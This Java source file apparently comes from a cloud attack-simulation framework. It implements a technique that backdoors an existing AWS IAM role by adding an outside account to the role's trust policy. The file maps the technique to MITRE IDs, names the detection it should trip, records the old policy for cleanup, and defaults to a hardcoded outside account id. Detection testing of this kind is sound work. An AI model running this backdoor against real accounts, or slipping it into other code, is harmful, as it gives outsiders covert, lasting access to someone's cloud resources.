package io.firedrill.injector.technique.persistence;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Adds an account the attacker owns to an existing role's trust policy: the role keeps working for
 * its owners, so nobody notices, and the attacker can assume it from outside at any time.
 */
public final class IamBackdoorRoleTrust implements Technique<IamBackdoorRoleTrust.Params> {

  private static final JsonMapper JSON = JsonMapper.builder().build();

  /**
   * @param roleName the existing role to backdoor
   * @param trustedAccount the attacker's own account, added to the role's trust
   */
  public record Params(String roleName, String trustedAccount) {

    public Params {
      if (!trustedAccount.matches("\\d{12}")) {
        throw new IllegalArgumentException(
            "trustedAccount must be an account id of 12 digits; got '" + trustedAccount + "'");
      }
    }
  }

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.persistence.iam-backdoor-role-trust",
          "Let an outside account assume an existing role",
          "Reads an existing role's trust policy with iam:GetRole, then calls"
              + " iam:UpdateAssumeRolePolicy with one more statement allowing sts:AssumeRole to an"
              + " account the attacker controls. Cleanup puts the old trust policy back.",
          List.of("T1098", "T1098.003"),
          IncidentType.PERSISTENCE,
          List.of("GetRole", "UpdateAssumeRolePolicy"),
          List.of("Persistence:IAMUser/AnomalousBehavior"),
          List.of("iam:GetRole", "iam:UpdateAssumeRolePolicy"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("roleName", "trustedAccount"));
    return new Params(
        Parameters.required(with, "roleName", "the existing role to backdoor"),
        with.getOrDefault("trustedAccount", "193672423079"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    return Grant.on(arns.role(p.roleName()), "iam:GetRole", "iam:UpdateAssumeRolePolicy");
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    List<ApiCall> calls = new ArrayList<>();
    String[] before = new String[1];
    calls.add(
        session.call(
            "iam",
            "GetRole",
            () -> {
              var role = session.iam().getRole(r -> r.roleName(p.roleName()));
              // IAM answers with the document URL-encoded.
              before[0] =
                  URLDecoder.decode(role.role().assumeRolePolicyDocument(), StandardCharsets.UTF_8);
              return role;
            }));
    if (before[0] == null) {
      return calls; // without the old trust policy, neither the backdoor nor its undo can be built
    }
    ledger.willMake(Change.of(Change.ROLE_TRUST, p.roleName(), "document", before[0]));
    String backdoored = withOutsider(before[0], p.trustedAccount());
    calls.add(
        session.call(
            "iam",
            "UpdateAssumeRolePolicy",
            () ->
                session
                    .iam()
                    .updateAssumeRolePolicy(
                        r -> r.roleName(p.roleName()).policyDocument(backdoored))));
    return calls;
  }

  /** The trust policy with one more statement, letting the outside account assume the role. */
  static String withOutsider(String document, String account) {
    ObjectNode policy = (ObjectNode) JSON.readTree(document);
    JsonNode existing = policy.path("Statement");
    ArrayNode statements = JSON.createArrayNode();
    if (existing.isArray()) {
      statements.addAll((ArrayNode) existing);
    } else if (existing.isObject()) {
      statements.add(existing);
    }
    ObjectNode added = statements.addObject();
    added.put("Effect", "Allow");
    added.putObject("Principal").put("AWS", "arn:aws:iam::" + account + ":root");
    added.put("Action", "sts:AssumeRole");
    policy.set("Statement", statements);
    return JSON.writeValueAsString(policy);
  }
}
